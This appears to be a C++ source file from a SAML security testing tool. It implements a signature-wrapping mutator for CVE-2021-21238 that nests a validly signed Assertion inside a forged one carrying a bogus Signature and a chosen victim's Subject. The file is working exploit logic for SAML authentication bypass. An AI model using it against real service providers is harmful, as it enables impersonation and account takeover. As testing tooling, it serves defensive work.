// SPDX-License-Identifier: Apache-2.0
// xsw.first_signature_nested — a verifier that checks "the first Signature under the element"
// (pysaml2 CVE-2021-21238; XSW-FIRST-SIG): a forged Assertion whose first child is the complete,
// validly signed original, followed by its own Issuer, a bogus Signature naming the forged ID and
// the victim's Subject. The xmlsec1 command line verifies the first Signature it meets, the
// nested one. saml-core §2.3.3 (an Assertion holds no Assertion) and §5.4.1 (the Signature that
// counts is the enveloped child of the consumed element).
#include "mutators/xsw/xsw.hpp"
#include "samlt/core/codec.hpp"
#include "samlt/core/random.hpp"
#include "samlt/core/saml_names.hpp"

namespace samlt::idp::mutators {

// Params: visible_id (the forged Assertion's ID, default a fresh one, so that no two messages share
// it and an SP's replay cache never answers for its signature checks), victim.
core::Result<void> xsw_first_signature_nested(Target& target) {
  namespace n = core::names;
  auto visible_id = string_param(target, "visible_id");
  auto victim = xsw::victim(target);
  if (!visible_id || !victim) {
    return core::fail(!visible_id ? visible_id.error() : victim.error());
  }
  xmlNode* original = xsw::first_assertion(target);
  xmlNode* signature = original ? xsw::signature_of(original) : nullptr;
  if (signature == nullptr) {
    return core::fail(core::Reason::mutator_not_applicable, "the Assertion carries no Signature");
  }
  std::string id = visible_id->value_or(core::new_saml_id());
  xmlNode* forged = xsw::copy_without_signature(original);
  xsw::write_victim(forged, *victim);
  core::set_attribute(forged, "ID", id);

  // The bogus Signature: the original's shape, naming the forged ID, with a digest of nothing.
  xmlNode* bogus = xmlDocCopyNode(signature, target.doc->get(), 1);
  auto references = core::descendants_named(bogus, n::ns_dsig, "Reference");
  auto digests = core::descendants_named(bogus, n::ns_dsig, "DigestValue");
  if (references.empty() || digests.empty()) {
    xmlFreeNode(bogus);
    xmlFreeNode(forged);
    return core::fail(core::Reason::mutator_not_applicable, "the Signature has no Reference");
  }
  core::set_attribute(references.front(), "URI", "#" + id);
  core::set_text(digests.front(), core::base64_encode(core::random_bytes(32)));
  xmlNode* issuer = core::child_named(forged, n::ns_assertion, "Issuer");
  issuer ? static_cast<void>(xmlAddNextSibling(issuer, bogus)) : xsw::append_child(forged, bogus);

  xmlReplaceNode(original, forged);
  xsw::insert_before(core::first_element_child(forged), original);
  return {};
}

}  // namespace samlt::idp::mutators
